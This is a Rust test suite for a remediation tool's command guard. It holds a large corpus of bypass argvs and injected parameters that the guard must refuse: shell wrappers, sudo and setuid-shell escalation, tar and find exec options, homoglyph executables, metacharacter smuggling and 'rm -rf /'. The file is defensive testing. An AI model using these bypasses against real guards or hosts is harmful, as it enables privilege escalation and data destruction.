//! The guard-bypass corpus: every case must be refused with a reason. And
//! the corpus of legitimate commands (every command of both catalogs, plus
//! hand-written ones) that must pass.

use remediate_config::guard::{self, CommandKind};
use remediate_config::{
    Catalog, GuardPolicy, HostPolicyDoc, Loaded, ProfileName, RenderContext, RenderedAction,
    effective_policy,
};
use serde_json::json;

use crate::util::{argv, obj};

/// Raw argvs an attacker, a careless catalog author or a pasted seed command
/// might produce. Each is refused by the default guard **and** with
/// `enforceAllowlist` off, except where noted in `ALLOWLIST_ONLY`.
const ARGV_BYPASSES: &[(&str, &[&str])] = &[
    ("shell string as one element", &["sh -c id"]),
    (
        "seed-style command string",
        &["systemctl restart ssh && id"],
    ),
    ("sh -c", &["/bin/sh", "-c", "id"]),
    ("bash -lc", &["/usr/bin/bash", "-lc", "id"]),
    (
        "bash -c with a chain",
        &["/bin/bash", "-c", "systemctl restart ssh && curl x | sh"],
    ),
    ("dash", &["/usr/bin/dash", "-c", "id"]),
    ("zsh", &["/usr/bin/zsh"]),
    ("sudo bash", &["/usr/bin/sudo", "bash"]),
    (
        "sudo as a command",
        &[
            "/usr/bin/sudo",
            "-n",
            "/usr/bin/systemctl",
            "restart",
            "ssh",
        ],
    ),
    ("su -c", &["/usr/bin/su", "-c", "id"]),
    ("env X=1 bash", &["/usr/bin/env", "X=1", "bash"]),
    ("env -i sh", &["/usr/bin/env", "-i", "/bin/sh"]),
    ("xargs", &["/usr/bin/xargs", "-a", "/tmp/x", "id"]),
    ("timeout wrapper", &["/usr/bin/timeout", "5", "/bin/sh"]),
    ("nohup wrapper", &["/usr/bin/nohup", "/bin/sh"]),
    ("nice wrapper", &["/usr/bin/nice", "/bin/sh"]),
    ("busybox sh", &["/usr/bin/busybox", "sh"]),
    ("systemd-run", &["/usr/bin/systemd-run", "id"]),
    ("python -c", &["/usr/bin/python3", "-c", "import os"]),
    ("versioned python", &["/usr/bin/python3.12", "-c", "x"]),
    ("perl -e", &["/usr/bin/perl", "-e", "exec"]),
    ("uppercase shell name", &["/usr/bin/SH", "-c", "id"]),
    ("awk system()", &["/usr/bin/awk", "BEGIN{system(\"id\")}"]),
    ("gawk system()", &["/usr/bin/gawk", "BEGIN{system(\"id\")}"]),
    (
        "sed e command",
        &["/usr/bin/sed", "-n", "1e id", "/etc/hostname"],
    ),
    ("less pager", &["/usr/bin/less", "/etc/passwd"]),
    ("man pager", &["/usr/bin/man", "man"]),
    ("vi editor", &["/usr/bin/vi", "/etc/sudoers"]),
    (
        "vim.basic shell escape",
        &["/usr/bin/vim.basic", "-c", ":!sh"],
    ),
    (
        "ssh ProxyCommand",
        &["/usr/bin/ssh", "-o", "ProxyCommand=id", "x"],
    ),
    ("rsync -e", &["/usr/bin/rsync", "-e", "sh -c id", "a", "b"]),
    (
        "git -c core.pager",
        &["/usr/bin/git", "-c", "core.pager=id", "log"],
    ),
    (
        "curl download",
        &["/usr/bin/curl", "-o", "/tmp/x", "http://x/p"],
    ),
    (
        "&& between commands",
        &["/usr/bin/systemctl", "restart", "ssh.service", "&&", "id"],
    ),
    (
        "; inside an argument",
        &["/usr/bin/systemctl", "restart", "ssh;id"],
    ),
    (
        "| pipe",
        &[
            "/usr/bin/systemctl",
            "--no-pager",
            "status",
            "ssh",
            "|",
            "sh",
        ],
    ),
    ("$(..) substitution", &["/usr/bin/echo", "$(id)"]),
    ("backticks", &["/usr/bin/echo", "`id`"]),
    ("${IFS} expansion", &["/usr/bin/echo", "a${IFS}b"]),
    ("redirect >", &["/usr/bin/echo", "x", ">/etc/passwd"]),
    (
        "redirect as its own word",
        &["/usr/bin/echo", ">", "/etc/passwd"],
    ),
    ("tilde expansion", &["/usr/bin/ls", "~root"]),
    ("newline in an argument", &["/usr/bin/echo", "a\nid"]),
    ("carriage return", &["/usr/bin/test", "-f", "/etc/passwd\r"]),
    ("NUL in an argument", &["/usr/bin/echo", "a\0b"]),
    (
        "space inside one argument",
        &["/usr/bin/systemctl", "is-active", "ssh service"],
    ),
    ("/tmp/systemctl", &["/tmp/systemctl", "is-active", "ssh"]),
    (
        "/usr/local/bin/systemctl",
        &["/usr/local/bin/systemctl", "is-active", "ssh"],
    ),
    ("home dir binary", &["/home/ops/bin/true"]),
    ("bare name", &["systemctl", "is-active", "ssh"]),
    ("relative path", &["./systemctl", "is-active", "ssh"]),
    (
        "../ in the executable",
        &["/usr/bin/../../tmp/systemctl", "is-active", "ssh"],
    ),
    (
        "double slash executable",
        &["/usr/bin//systemctl", "is-active", "ssh"],
    ),
    (
        "trailing slash executable",
        &["/usr/bin/systemctl/", "is-active", "ssh"],
    ),
    (
        "Cyrillic e in the executable",
        &["/usr/bin/syst\u{0435}mctl", "is-active", "ssh"],
    ),
    ("fullwidth sh", &["/usr/bin/\u{ff53}\u{ff48}", "-c", "id"]),
    (
        "zero-width space",
        &["/usr/bin/systemctl\u{200b}", "is-active", "ssh"],
    ),
    (
        "Cyrillic s in an argument",
        &["/usr/bin/systemctl", "is-active", "\u{0455}sh.service"],
    ),
    (
        "find -exec",
        &["/usr/bin/find", "/", "-exec", "/bin/sh", "-c", "id", "+"],
    ),
    (
        "find -execdir",
        &["/usr/bin/find", "/etc", "-execdir", "id", "+"],
    ),
    ("find -ok", &["/usr/bin/find", "/etc", "-ok", "id"]),
    (
        "find -fprintf writes cron",
        &["/usr/bin/find", "/etc", "-fprintf", "/etc/cron.d/x", "%p"],
    ),
    ("find -delete", &["/usr/bin/find", "/var/log", "-delete"]),
    (
        "journalctl without --no-pager",
        &["/usr/bin/journalctl", "-n", "10"],
    ),
    (
        "journalctl -e pager",
        &["/usr/bin/journalctl", "--no-pager", "-e"],
    ),
    (
        "journalctl --pager-end",
        &["/usr/bin/journalctl", "--no-pager", "--pager-end"],
    ),
    (
        "journalctl --follow never ends",
        &["/usr/bin/journalctl", "--no-pager", "-f"],
    ),
    (
        "journalctl --vacuum abbreviation",
        &["/usr/bin/journalctl", "--no-pager", "--vacuum-t=1s"],
    ),
    (
        "journalctl other directory",
        &["/usr/bin/journalctl", "--no-pager", "--directory=/tmp/evil"],
    ),
    (
        "systemctl status without --no-pager",
        &["/usr/bin/systemctl", "status", "ssh.service"],
    ),
    (
        "systemctl edit opens an editor",
        &["/usr/bin/systemctl", "edit", "ssh.service"],
    ),
    (
        "systemctl over ssh",
        &[
            "/usr/bin/systemctl",
            "-H",
            "root@evil",
            "start",
            "x.service",
        ],
    ),
    (
        "systemctl set-environment LD_PRELOAD",
        &[
            "/usr/bin/systemctl",
            "set-environment",
            "LD_PRELOAD=/tmp/x.so",
        ],
    ),
    ("systemctl reboot", &["/usr/bin/systemctl", "reboot"]),
    (
        "systemctl without subcommand",
        &["/usr/bin/systemctl", "--no-pager"],
    ),
    (
        "tar --to-command",
        &[
            "/usr/bin/tar",
            "--create",
            "--file=/tmp/x.tar",
            "--to-command=id",
            "etc",
        ],
    ),
    (
        "tar --checkpoint-action",
        &[
            "/usr/bin/tar",
            "-c",
            "-f",
            "/tmp/x",
            "--checkpoint=1",
            "--checkpoint-action=exec=id",
            "etc",
        ],
    ),
    (
        "tar abbreviated --use-compress-program",
        &[
            "/usr/bin/tar",
            "--create",
            "--use-compress-prog=id",
            "--file=/tmp/x",
            "etc",
        ],
    ),
    (
        "tar old-style cIf",
        &["/usr/bin/tar", "cIf", "id", "/tmp/x", "etc"],
    ),
    (
        "tar -I in a cluster",
        &["/usr/bin/tar", "-cIf", "id", "/tmp/x", "etc"],
    ),
    (
        "tar remote archive host:path",
        &["/usr/bin/tar", "--create", "--file=evil:/tmp/x", "etc"],
    ),
    (
        "tar extract over /",
        &[
            "/usr/bin/tar",
            "--extract",
            "--file=/tmp/x",
            "--directory=/usr/bin",
        ],
    ),
    (
        "dpkg --pre-invoke",
        &["/usr/bin/dpkg", "--verify", "--pre-invoke=id"],
    ),
    ("dpkg install", &["/usr/bin/dpkg", "-i", "/tmp/evil.deb"]),
    (
        "iptables --modprobe",
        &["/usr/sbin/iptables", "-L", "--modprobe=/tmp/x"],
    ),
    ("iptables flush", &["/usr/sbin/iptables", "-F"]),
    (
        "install --strip-program",
        &[
            "/usr/bin/install",
            "-s",
            "--strip-program=id",
            "/tmp/a",
            "/tmp/b",
        ],
    ),
    (
        "install a setuid copy of a shell",
        &[
            "/usr/bin/install",
            "-m",
            "4755",
            "/usr/bin/dash",
            "/tmp/rootsh",
        ],
    ),
    (
        "install a setuid binary, symbolic mode",
        &["/usr/bin/install", "--mode=u+s", "/usr/bin/find", "/tmp/f"],
    ),
    (
        "mkdir a sticky world-writable directory",
        &["/usr/bin/mkdir", "-m", "1777", "/tmp/x"],
    ),
    ("rm -rf /", &["/usr/bin/rm", "-rf", "/"]),
    ("rm with ../", &["/usr/bin/rm", "-f", "/etc/ssh/../shadow"]),
    ("rm a relative path", &["/usr/bin/rm", "-f", "shadow"]),
    ("ss --kill", &["/usr/bin/ss", "-K", "dport", "=", ":22"]),
    ("ss -N netns", &["/usr/bin/ss", "-tlN", "evil"]),
    ("sshd without -t starts a daemon", &["/usr/sbin/sshd"]),
    (
        "sshd -o ForceCommand",
        &["/usr/sbin/sshd", "-t", "-o", "ForceCommand=id"],
    ),
    ("visudo without -c opens an editor", &["/usr/sbin/visudo"]),
    ("ufw disable", &["/usr/sbin/ufw", "disable"]),
    ("ufw reset", &["/usr/sbin/ufw", "--force", "reset"]),
    ("getent shadow leaks hashes", &["/usr/bin/getent", "shadow"]),
    (
        "last -f other file",
        &["/usr/bin/last", "-f", "/etc/shadow"],
    ),
    (
        "date -s sets the clock",
        &["/usr/bin/date", "-s", "2020-01-01"],
    ),
    ("hostname sets the name", &["/usr/bin/hostname", "evil"]),
    ("empty argv", &[]),
];

/// Refused only because the allowlist is enforced (harmless-looking
/// executables without an entry).
const ALLOWLIST_ONLY: &[(&str, &[&str])] = &[
    ("cat is not allowlisted", &["/usr/bin/cat", "/etc/shadow"]),
    (
        "chmod is not allowlisted",
        &["/usr/bin/chmod", "4755", "/usr/bin/find"],
    ),
    (
        "sudoedit is not allowlisted",
        &["/usr/bin/sudoedit", "/etc/sudoers"],
    ),
];

fn relaxed() -> GuardPolicy {
    GuardPolicy {
        enforce_allowlist: false,
        ..GuardPolicy::default()
    }
}

fn refused(words: &[&str], guard: &GuardPolicy) -> Option<guard::GuardIssue> {
    let issues = guard::check(&[argv(words)], CommandKind::Command, guard);
    issues.into_iter().next()
}

#[test]
fn every_argv_bypass_is_refused_with_a_reason() {
    let mut passed = Vec::new();
    for (name, words) in ARGV_BYPASSES.iter().chain(ALLOWLIST_ONLY) {
        match refused(words, &GuardPolicy::default()) {
            Some(issue) => {
                assert_eq!(issue.index, 0, "{name}");
                assert!(!issue.reason.is_empty() && !issue.code.is_empty(), "{name}");
                assert!(!issue.reason.contains('\n'), "{name}: reason is one line");
            }
            None => passed.push(*name),
        }
    }
    assert!(passed.is_empty(), "bypasses that passed: {passed:?}");
}

#[test]
fn bypasses_stay_refused_with_the_allowlist_off() {
    let passed: Vec<&str> = ARGV_BYPASSES
        .iter()
        .filter(|(_, words)| refused(words, &relaxed()).is_none())
        .map(|(name, _)| *name)
        .collect();
    assert!(
        passed.is_empty(),
        "passed with enforceAllowlist off: {passed:?}"
    );
    for (name, words) in ALLOWLIST_ONLY {
        assert!(refused(words, &relaxed()).is_none(), "{name}");
    }
}

#[test]
fn reasons_are_specific() {
    let code = |words: &[&str]| refused(words, &GuardPolicy::default()).map(|i| i.code);
    assert_eq!(code(&["/bin/sh", "-c", "id"]), Some("interpreter"));
    assert_eq!(code(&["/usr/bin/env", "X=1", "bash"]), Some("interpreter"));
    assert_eq!(
        code(&["/tmp/systemctl", "is-active", "ssh"]),
        Some("untrusted_location")
    );
    assert_eq!(code(&["systemctl"]), Some("not_absolute"));
    assert_eq!(code(&["/usr/bin/syst\u{0435}mctl"]), Some("non_ascii"));
    assert_eq!(code(&["/usr/bin/echo", "a\nb"]), Some("control_char"));
    assert_eq!(code(&["/usr/bin/echo", "a\0b"]), Some("nul_byte"));
    assert_eq!(code(&["/usr/bin/echo", "a;b"]), Some("shell_metachar"));
    assert_eq!(
        code(&["/usr/bin/find", "/", "-exec", "id"]),
        Some("forbidden_option")
    );
    assert_eq!(
        code(&["/usr/bin/journalctl", "-n", "10"]),
        Some("pager_possible")
    );
    assert_eq!(
        code(&["/usr/bin/rm", "-f", "/etc/ssh/../shadow"]),
        Some("path_traversal")
    );
    assert_eq!(
        code(&["/usr/bin/cat", "/etc/shadow"]),
        Some("not_allowlisted")
    );
    assert_eq!(
        code(&["/usr/sbin/ufw", "disable"]),
        Some("subcommand_not_allowed")
    );
    assert_eq!(code(&["/usr/sbin/iptables", "-F"]), Some("unknown_option"));
}

/// A catalog whose author was careless: permissive string patterns. The
/// parameter checks and the guard still refuse every injection.
const CARELESS: &str = r#"
[[action]]
id = "t-echo"
title = "echo anything"
risk = "low"
tier = "safe_auto"
timeout_secs = 10
idempotent = true
commands = [["/usr/bin/echo", "{message}"]]
[action.params.message]
type = "string"
pattern = ".*"
max_len = 256

[[action]]
id = "t-unit"
title = "restart a unit"
risk = "medium"
tier = "guarded_auto"
timeout_secs = 10
idempotent = true
commands = [["/usr/bin/systemctl", "restart", "{unit}"]]
[action.params.unit]
type = "string"
pattern = "[^/]*"

[[action]]
id = "t-find"
title = "find by name"
risk = "low"
tier = "observe"
timeout_secs = 10
idempotent = true
commands = [["/usr/bin/find", "/var/log", "-name", "{name}"]]
[action.params.name]
type = "string"
pattern = ".*"

[[action]]
id = "t-logs"
title = "list a log directory"
risk = "low"
tier = "observe"
timeout_secs = 10
idempotent = true
commands = [["/usr/bin/ls", "-la", "{dir}"]]
[action.params.dir]
type = "path"
prefixes = ["/var/log"]

[[action]]
id = "t-port"
title = "deny a port"
risk = "high"
tier = "risky_manual"
timeout_secs = 10
idempotent = true
commands = [["/usr/sbin/ufw", "deny", "{port}/{protocol}"]]
[action.params.port]
type = "int"
min = 1
max = 65535
exclude = [22]
[action.params.protocol]
type = "enum"
values = ["tcp", "udp"]
default = "tcp"
"#;

/// (case, action, params): each must fail in `render` or in the guard.
fn param_bypasses() -> Vec<(&'static str, &'static str, serde_json::Value)> {
    vec![
        ("&& in a parameter", "t-echo", json!({"message": "a && id"})),
        ("; in a parameter", "t-echo", json!({"message": "a;id"})),
        ("| in a parameter", "t-echo", json!({"message": "a|sh"})),
        (
            "$(..) in a parameter",
            "t-echo",
            json!({"message": "$(id)"}),
        ),
        (
            "backticks in a parameter",
            "t-echo",
            json!({"message": "`id`"}),
        ),
        (
            "newline in a parameter",
            "t-echo",
            json!({"message": "a\nid"}),
        ),
        (
            "NUL in a parameter",
            "t-echo",
            json!({"message": "a\u{0}b"}),
        ),
        (
            "over-long parameter",
            "t-echo",
            json!({"message": "x".repeat(300)}),
        ),
        (
            "look-alike in a parameter",
            "t-echo",
            json!({"message": "\u{0430}dmin"}),
        ),
        (
            "bidi override in a parameter",
            "t-echo",
            json!({"message": "a\u{202e}b"}),
        ),
        (
            "unit with ;",
            "t-unit",
            json!({"unit": "ssh.service;reboot"}),
        ),
        ("unit as an option", "t-unit", json!({"unit": "-H"})),
        ("unit with ..", "t-unit", json!({"unit": ".."})),
        (
            "find -exec via a parameter",
            "t-find",
            json!({"name": "-exec"}),
        ),
        (
            "find pattern with a space",
            "t-find",
            json!({"name": "x -exec id"}),
        ),
        (
            "../ in a path parameter",
            "t-logs",
            json!({"dir": "/var/log/../../etc"}),
        ),
        ("relative ../ path", "t-logs", json!({"dir": "../etc"})),
        (
            "path outside its prefix",
            "t-logs",
            json!({"dir": "/etc/shadow"}),
        ),
        (
            "prefix look-alike path",
            "t-logs",
            json!({"dir": "/var/logs"}),
        ),
        (
            "metacharacter in a path",
            "t-logs",
            json!({"dir": "/var/log/a;b"}),
        ),
        ("port 22 excluded", "t-port", json!({"port": 22})),
        ("port with a command", "t-port", json!({"port": "80; id"})),
        ("port out of range", "t-port", json!({"port": 70000})),
        ("port as a float", "t-port", json!({"port": 80.5})),
        (
            "protocol injection",
            "t-port",
            json!({"port": 80, "protocol": "tcp && id"}),
        ),
        (
            "a request supplying a command",
            "t-port",
            json!({"port": 80, "command": "/bin/sh"}),
        ),
    ]
}

#[test]
fn every_parameter_bypass_is_refused_before_or_by_the_guard() {
    let catalog = Catalog::from_toml_str(CARELESS).expect("careless catalog loads");
    let guard = GuardPolicy::default();
    let ctx = RenderContext::new("run-1", 1);
    let mut passed = Vec::new();
    for (name, action, params) in param_bypasses() {
        let action = catalog.get(action).expect(action);
        let refused = match action.render(&obj(params), &ctx) {
            Err(issues) => {
                assert!(issues.iter().all(|i| !i.reason.is_empty()), "{name}");
                true
            }
            Ok(rendered) => guard::check_action(&rendered, &guard)
                .map_err(|issues| assert!(!issues[0].reason.is_empty(), "{name}"))
                .is_err(),
        };
        if !refused {
            passed.push(name);
        }
    }
    assert!(
        passed.is_empty(),
        "parameter bypasses that passed: {passed:?}"
    );
}

#[test]
fn a_long_parameter_makes_the_command_too_long_for_the_guard() {
    let catalog = Catalog::from_toml_str(CARELESS).expect("loads");
    let rendered = catalog
        .get("t-echo")
        .expect("t-echo")
        .render(
            &obj(json!({"message": "x".repeat(200)})),
            &RenderContext::new("r", 1),
        )
        .expect("valid parameter");
    let guard = GuardPolicy {
        max_command_length: 100,
        ..GuardPolicy::default()
    };
    let issues = guard::check_action(&rendered, &guard).expect_err("too long");
    assert_eq!(issues[0].code, "too_long");
}

fn rendered(
    commands: Vec<Vec<String>>,
    canary: Vec<Vec<String>>,
    rollback: Vec<Vec<String>>,
) -> RenderedAction {
    RenderedAction {
        action_id: "x".into(),
        params: serde_json::Map::new(),
        commands,
        canary_checks: canary,
        rollback,
        sudo: true,
        timeout_secs: 60,
        idempotent: true,
    }
}

#[test]
fn canary_checks_and_rollback_commands_get_no_exemption() {
    let ok = vec![argv(&["/usr/bin/true"])];
    let guard = GuardPolicy::default();

    // The original's rollback: a shell string restoring a backup.
    let r = rendered(
        ok.clone(),
        vec![],
        vec![argv(&["/bin/sh", "-c", "cp /backup/sshd_config /etc/ssh/"])],
    );
    let issues = guard::check_action(&r, &guard).expect_err("rollback refused");
    assert_eq!(
        (issues[0].kind, issues[0].index, issues[0].code),
        (CommandKind::Rollback, 0, "interpreter")
    );

    // The original's listener check: ss piped into grep, through bash.
    let r = rendered(
        ok.clone(),
        vec![argv(&["/usr/bin/bash", "-c", "ss -ltn | grep :8080"])],
        vec![],
    );
    let issues = guard::check_action(&r, &guard).expect_err("canary refused");
    assert_eq!(
        (issues[0].kind, issues[0].code),
        (CommandKind::Canary, "interpreter")
    );

    // A rollback that is fine except for a metacharacter.
    let r = rendered(
        ok.clone(),
        vec![],
        vec![
            ok[0].clone(),
            argv(&["/usr/sbin/ufw", "delete", "deny", "80/tcp;id"]),
        ],
    );
    let issues = guard::check_action(&r, &guard).expect_err("rollback refused");
    assert_eq!(
        (issues[0].kind, issues[0].index, issues[0].code),
        (CommandKind::Rollback, 1, "shell_metachar")
    );

    // Too many rollback commands.
    let r = rendered(ok.clone(), vec![], vec![ok[0].clone(); 21]);
    let issues = guard::check_action(&r, &guard).expect_err("too many");
    assert_eq!(
        (issues[0].kind, issues[0].code),
        (CommandKind::Rollback, "too_many_commands")
    );

    // Every list is reported, not only the first bad one.
    let r = rendered(
        vec![argv(&["/tmp/x"])],
        vec![argv(&["/usr/bin/less", "/etc/passwd"])],
        vec![argv(&["/usr/bin/rm", "-rf", "/"])],
    );
    let kinds: Vec<CommandKind> = guard::check_action(&r, &guard)
        .expect_err("all refused")
        .iter()
        .map(|i| i.kind)
        .collect();
    assert_eq!(
        kinds,
        vec![
            CommandKind::Command,
            CommandKind::Canary,
            CommandKind::Rollback
        ]
    );
}

#[test]
fn a_catalog_rollback_that_would_not_pass_as_a_command_is_refused() {
    let toml = r#"
[[action]]
id = "restore-backup"
title = "restore"
risk = "medium"
tier = "guarded_auto"
timeout_secs = 10
idempotent = true
commands = [["/usr/bin/true"]]
canary_checks = [["/usr/bin/true"]]
rollback = [["/usr/bin/bash", "-c", "cp /root/sshd_config.bak /etc/ssh/sshd_config && systemctl reload ssh"]]
"#;
    let catalog =
        Catalog::from_toml_str(toml).expect("parses: the guard, not the parser, judges commands");
    let r = catalog
        .get("restore-backup")
        .expect("action")
        .render(&serde_json::Map::new(), &RenderContext::new("r", 1))
        .expect("renders");
    let issues = guard::check_action(&r, &GuardPolicy::default()).expect_err("refused");
    assert_eq!(issues.len(), 1);
    assert_eq!(issues[0].kind, CommandKind::Rollback);
    let json = serde_json::to_value(&issues).expect("json");
    assert_eq!(json[0]["index"], 0);
    assert!(
        json[0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("bash"))
    );
}

#[test]
fn the_corpus_is_big_enough() {
    let total = ARGV_BYPASSES.len() + ALLOWLIST_ONLY.len() + param_bypasses().len() + 6;
    assert!(total >= 60, "{total}");
}

/// Every profile's guard, since strict is the tightest.
fn guards() -> Vec<(ProfileName, GuardPolicy)> {
    ProfileName::ALL
        .iter()
        .map(|name| {
            let doc = HostPolicyDoc {
                remediation_policy_profile: *name,
                ..HostPolicyDoc::default()
            };
            (
                *name,
                effective_policy(&Loaded::defaults(), &doc)
                    .expect("profile")
                    .guard,
            )
        })
        .collect()
}

#[test]
fn every_command_of_both_catalogs_passes_under_every_profile() {
    let ctx = RenderContext::new("0190a6f2-7c3e-7d4a-9b1e-3f2a1c5d6e7f", 3);
    let mut checked = 0;
    for catalog in [Catalog::builtin(), Catalog::demo()] {
        for action in catalog.actions() {
            let rendered = action
                .render(&action.example_params(), &ctx)
                .unwrap_or_else(|e| panic!("{}: {e:?}", action.id));
            for (profile, guard) in guards() {
                if let Err(issues) = guard::check_action(&rendered, &guard) {
                    panic!("{} under {profile}: {issues:#?}", action.id);
                }
            }
            checked +=
                rendered.commands.len() + rendered.canary_checks.len() + rendered.rollback.len();
        }
    }
    assert!(checked >= 40, "{checked}");
}

/// Legitimate commands an operator may write in a catalog.
const LEGITIMATE: &[&[&str]] = &[
    &[
        "/usr/bin/systemctl",
        "--no-pager",
        "status",
        "nginx.service",
    ],
    &[
        "/usr/bin/systemctl",
        "is-enabled",
        "--quiet",
        "getty@tty1.service",
    ],
    &["/usr/bin/systemctl", "restart", "nginx.service"],
    &[
        "/usr/bin/systemctl",
        "--no-pager",
        "show",
        "-p",
        "ActiveState",
        "ssh.service",
    ],
    &["/usr/bin/systemctl", "daemon-reload"],
    &[
        "/usr/bin/journalctl",
        "--no-pager",
        "-u",
        "nginx.service",
        "--since=-1h",
        "-p",
        "err",
    ],
    &[
        "/usr/bin/journalctl",
        "--no-pager",
        "-n50",
        "-o",
        "short-iso",
    ],
    &["/usr/sbin/ufw", "status", "verbose"],
    &["/usr/sbin/ufw", "allow", "443/tcp"],
    &["/usr/sbin/iptables", "-w", "-S", "ufw-user-input"],
    &[
        "/usr/sbin/ip6tables",
        "-w",
        "-C",
        "ufw6-user-input",
        "-p",
        "tcp",
        "--dport",
        "8080",
        "-j",
        "DROP",
    ],
    &["/usr/bin/ss", "-H", "-ltn", "sport", "=", ":443"],
    &[
        "/usr/bin/find",
        "/var/log",
        "-xdev",
        "-name",
        "*.gz",
        "-mtime",
        "+30",
        "-print",
    ],
    &[
        "/usr/bin/tar",
        "--create",
        "--gzip",
        "--file=/var/backups/etc.tgz",
        "--directory=/",
        "etc",
    ],
    &[
        "/usr/bin/install",
        "-d",
        "-m",
        "0750",
        "/var/lib/vps-remediate/forensics",
    ],
    &["/usr/bin/mkdir", "-p", "/var/lib/vps-remediate/tmp"],
    &["/usr/bin/sha256sum", "/etc/ssh/sshd_config"],
    &["/usr/bin/stat", "-c", "%a:%U:%G", "/etc/shadow"],
    &["/usr/bin/dpkg", "--verify", "openssh-server"],
    &["/usr/bin/getent", "group", "sudo"],
    &["/usr/sbin/sshd", "-T"],
    &["/bin/df", "-hT"],
    &["/sbin/visudo", "-c"],
];

#[test]
fn legitimate_commands_pass() {
    for (profile, guard) in guards() {
        for words in LEGITIMATE {
            let issues = guard::check(&[argv(words)], CommandKind::Command, &guard);
            assert!(issues.is_empty(), "{words:?} under {profile}: {issues:?}");
        }
    }
}
